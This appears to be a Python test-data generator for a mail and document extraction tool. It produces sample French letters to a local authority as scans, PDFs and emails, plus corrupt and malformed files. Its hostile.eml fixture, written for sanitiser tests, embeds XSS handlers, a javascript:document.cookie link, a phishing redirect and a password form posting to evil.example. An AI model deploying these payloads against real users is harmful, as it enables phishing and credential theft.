"""tests/data: tiny real inputs for the extraction tests."""
from __future__ import annotations

import base64
import io
import zipfile

import numpy as np
from PIL import Image
from samples.common import SEED, TESTS
from samples.layout import Letter, layout
from samples.mime import address, entity, headers, multipart, pdf_part, qp, text_part
from samples.pdf import image_pdf, text_pdf
from samples.raster import jpeg_bytes, png_bytes, render_pages, scan_effect


def thise_letter() -> Letter:
    return Letter(
        sender=["Jacqueline Pourchet", "9 rue des Prés", "25220 Thise"],
        place_date="Thise, le 7 avril 2025",
        objet="Bac gris non collecté",
        body=[
            "Notre bac gris n'a pas été vidé lors de la collecte du jeudi 3 avril, alors qu'il était sorti la "
            "veille au soir comme d'habitude. Pouvez-vous faire repasser le camion ou nous indiquer la date de "
            "la prochaine collecte ?",
        ],
        signature=["Jacqueline Pourchet"],
    )


def belfort_letter() -> Letter:
    return Letter(
        sender=["Lucas Moreau", "27 rue de Belfort", "25000 Besançon"],
        place_date="Besançon, le 19 mai 2025",
        objet="Fuite d'eau sur le trottoir rue de Belfort",
        body=[
            "Depuis ce matin, de l'eau s'écoule en continu d'une bouche à clé sur le trottoir devant le 27 rue "
            "de Belfort, à Besançon. Une flaque s'étend jusqu'à la chaussée et la pression semble avoir baissé "
            "dans l'immeuble.",
            "Pouvez-vous envoyer une équipe pour réparer cette fuite sur le réseau d'eau ?",
        ],
        signature=["Lucas Moreau"],
    )


def write_tests() -> None:
    TESTS.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(SEED + 100)

    # letter_scan.png: one clean page at 200 dpi, greys posterised so the PNG stays small
    page = render_pages(layout(thise_letter(), "sans", 12), "sans", 200, SEED + 101)[0]
    page = page.point(lambda v: min(255, (v // 32) * 36 + 3) if v < 250 else 255)
    (TESTS / "letter_scan.png").write_bytes(png_bytes(page, 200))

    # two_pages_scan.pdf: image-only, two pages with distinct text, 150 dpi grey JPEG
    letter = Letter(
        sender=["Hervé Jeannin", "11 rue de la Corvée", "25220 Chalezeule"],
        place_date="Chalezeule, le 28 avril 2025",
        objet="Demande d'un composteur individuel",
        body=[
            "J'habite à Chalezeule depuis peu et je souhaiterais obtenir un composteur individuel pour mon "
            "jardin. Pouvez-vous m'indiquer la marche à suivre ?",
            "\f",
            "Page deux : suite de mon courrier. Je suis également intéressé par une formation au compostage "
            "si la métropole en organise.",
        ],
        signature=["Hervé Jeannin"],
    )
    pages = []
    for image in render_pages(layout(letter, "sans", 12), "sans", 150, SEED + 102):
        scan = scan_effect(image, rng, angle=float(rng.uniform(-0.3, 0.3)), noise=2.0)
        pages.append((jpeg_bytes(scan, 50, 150), scan.width, scan.height, 150))
    (TESTS / "two_pages_scan.pdf").write_bytes(image_pdf(pages, "Scan", "20250428101010+02'00'"))

    # text_layer.pdf: born-digital, one page, real text layer
    text_layer = text_pdf(layout(belfort_letter(), "sans"), "sans", "Fuite d'eau rue de Belfort", "20250519083000+02'00'")
    (TESTS / "text_layer.pdf").write_bytes(text_layer)

    # email_with_pdf.eml: multipart/mixed, short text/plain body + text_layer.pdf
    body = "Bonjour,\n\nJe vous transmets en pièce jointe mon signalement d'une fuite d'eau.\n\nCordialement,\nLucas Moreau\n"
    (TESTS / "email_with_pdf.eml").write_bytes(entity(
        headers(address("Lucas Moreau", "lucas.moreau@orange.fr"), "Signalement fuite d'eau",
                "Mon, 19 May 2025 08:35:12 +0200", "test-email-with-pdf@orange.fr")
        + [("Content-Type", 'multipart/mixed; boundary="=_test_mixed_0001"')],
        multipart("=_test_mixed_0001", [text_part(body), pdf_part(text_layer, "signalement_fuite.pdf")])))

    # html_only.eml: HTML only, iso-8859-1, quoted-printable
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>'
            '<body><p>Bonjour,</p><p>Je souhaiterais obtenir un <b>composteur</b> pour mon jardin, quartier de '
            'Montrapon à Besançon. Où dois-je m\'adresser&nbsp;? Merci beaucoup.</p>'
            '<p>Hélène Garçon<br>8 rue de Vesoul<br>25000 Besançon</p></body></html>\n')
    (TESTS / "html_only.eml").write_bytes(entity(
        headers(address("Hélène Garçon", "helene.garcon@wanadoo.fr", "iso-8859-1"), "Demande de composteur",
                "Fri, 04 Apr 2025 17:02:44 +0200", "test-html-only-latin1@wanadoo.fr", charset="iso-8859-1")
        + [("Content-Type", 'text/html; charset="iso-8859-1"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(html, "iso-8859-1")))

    # hostile.eml: active content a renderer must never run (for sanitising tests)
    html = """<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/phish">
<style>body { background: url("http://evil.example/track.gif"); }</style>
<script>alert(1)</script>
</head>
<body onload="alert('onload')">
<p>Bonjour,</p>
<p>Un dépôt sauvage de gravats bloque le trottoir rue de Vesoul à Besançon depuis trois jours.</p>
<img src="http://evil.example/x.png" width="1" height="1" alt="">
<img src="x" onerror="alert('onerror')">
<p><a href="#" onclick="alert('clic');return false;">Voir la photo</a> ou
<a href="javascript:alert(document.cookie)">cliquez ici pour confirmer</a>.</p>
<iframe src="http://evil.example/frame.html"></iframe>
<form action="http://evil.example/steal" method="post"><input name="password" type="password"></form>
<p>Cordialement,<br>Un riverain</p>
</body></html>
"""
    (TESTS / "hostile.eml").write_bytes(entity(
        headers(address("Riverain", "riverain@evil.example"), "Dépôt sauvage rue de Vesoul",
                "Thu, 06 Mar 2025 12:00:00 +0100", "test-hostile@evil.example")
        + [("Content-Type", 'text/html; charset="utf-8"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(html)))

    # corrupt.pdf: a PDF header, the start of an object, then truncated garbage (pdfinfo fails)
    garbage = bytes(rng.integers(0, 256, 1500, dtype=np.uint8))
    (TESTS / "corrupt.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Cat" + garbage)

    # empty.pdf: zero bytes
    (TESTS / "empty.pdf").write_bytes(b"")

    # blank_page.png: white A4 page at 150 dpi
    (TESTS / "blank_page.png").write_bytes(png_bytes(Image.new("L", (1240, 1754), 255), 150))

    # not_a_document.pdf: actually a small ZIP archive
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("lisezmoi.txt", date_time=(2025, 3, 1, 12, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, "Ceci n'est pas un PDF, c'est une archive ZIP.\n" * 20)
    (TESTS / "not_a_document.pdf").write_bytes(buffer.getvalue())

    # broken_mime.eml: no From/To/Date/Message-ID/MIME-Version, a non-header line in the headers, a
    # boundary that never closes, "utf-8" declared over latin-1 bytes, a truncated base64 attachment
    text = ("Bonjour,\n\nJe n'ai toujours pas reçu ma facture d'eau du mois de février pour mon logement à Pirey. "
            "Pourriez-vous me la renvoyer ? Merci d'avance.\n\nRené Thiébaud\n")
    attachment = base64.encodebytes(text_layer)[:300]  # cut in the middle of a line
    broken = (b"Subject: facture d'eau\n"
              b'Content-Type: multipart/mixed; boundary="----=_NextPart_000_0012_01DB9A3C"\n'
              b"this line is not a header\n"
              b"\n"
              b"------=_NextPart_000_0012_01DB9A3C\n"
              b'Content-Type: text/plain; charset="utf-8"\n'
              b"Content-Transfer-Encoding: 8bit\n"
              b"\n" + text.encode("latin-1") + b"\n"
              b"------=_NextPart_000_0012_01DB9A3C\n"
              b'Content-Type: application/pdf; name="facture.pdf"\n'
              b"Content-Transfer-Encoding: base64\n"
              b'Content-Disposition: attachment; filename="facture.pdf"\n'
              b"\n" + attachment)
    (TESTS / "broken_mime.eml").write_bytes(broken)
